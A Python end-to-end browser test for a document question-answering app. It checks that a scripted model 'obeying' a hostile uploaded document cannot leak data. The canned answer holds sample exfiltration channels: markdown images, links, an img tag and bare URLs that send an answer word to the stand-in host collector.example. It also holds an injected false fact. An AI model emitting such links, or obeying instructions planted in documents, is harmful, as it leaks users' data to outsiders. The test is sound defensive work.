"""A model that obeys a hostile document, in a real browser: it asks no other computer."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect
from tests.e2e import papers
from tests.e2e.conftest import Visiting
from tests.e2e.server import Server
from tests.e2e.test_models import DMITRY, vendor
from tests.e2e.visitor import ANNA, INDEXING_MS
from tests.standins.scripted import Step
from tests.standins.vendor import KEY

from znatok.llm.model import ChatRequest

pytestmark = pytest.mark.e2e
_WAYS_OUT = (
    "Клапан «Сигма» проверяют каждый вторник [1]. "
    "Клапан ![х](https://collector.example/a.png?q=вторник) проверяют каждый вторник [1]. "
    "[Клапан](https://collector.example/?q=вторник) проверяют каждый вторник [1]. "
    '<img src="https://collector.example/b.png"> Клапан проверяют каждый вторник [1]. '
    "Подробнее: https://collector.example/вторник и www.collector.example. "
    "Клапан [проверяют][z] каждый вторник.\n\n[z]: https://collector.example/z\n"
    "Клапан проверяет робот Вертер каждую пятницу [1]."
)


def _obey(request: ChatRequest) -> Iterator[Step]:
    yield from (_WAYS_OUT[at : at + 9] for at in range(0, len(_WAYS_OUT), 9))


@pytest.fixture
def model(server: Server) -> Iterator[None]:
    """An obedient model of the company's own, set up for the length of a test."""
    with vendor() as standing, server.caller(DMITRY) as admin:
        standing.script = _obey
        form = {
            "name": "Послушная",
            "kind": "openai_compatible",
            "options": {
                "base_url": standing.base_url,
                "region": "local",
                "model": "local-model",
                "api_key": KEY,
            },
        }
        added = admin.post("/models/providers", form)
        try:
            yield
        finally:
            admin.delete(f"/models/providers/{added['id']}")


@pytest.mark.usefixtures("model")
def test_a_rendered_answer_leads_nowhere_and_says_who_wrote_it(visiting: Visiting) -> None:
    anna = visiting()
    anna.signed_in(ANNA, "/documents")
    anna.upload(papers.hostile_rules())
    try:
        expect(anna.uploads()).to_contain_text("Готов: можно спрашивать", timeout=INDEXING_MS)
        anna.page.get_by_role("link", name="Вопросы", exact=True).click()
        turn = anna.ask(papers.HOSTILE_QUESTION)
        answer = anna.answer(turn)
        expect(answer).to_contain_text("Клапан «Сигма» проверяют каждый вторник")
        expect(turn.get_by_test_id("written-by")).to_contain_text("Послушная")
        expect(answer).not_to_contain_text("Вертер")
        expect(answer).not_to_contain_text("collector.example")
        assert anna.page.locator("[data-turn] a[href*='collector']").count() == 0
        assert anna.page.locator("[data-turn] img").count() == 0
        assert anna.watch.foreign == []
    finally:
        with anna.server.caller(ANNA) as caller:
            for document in caller.get("/documents", limit=100)["items"]:
                if document["file_name"] == papers.HOSTILE_NAME:
                    caller.delete(f"/documents/{document['id']}")
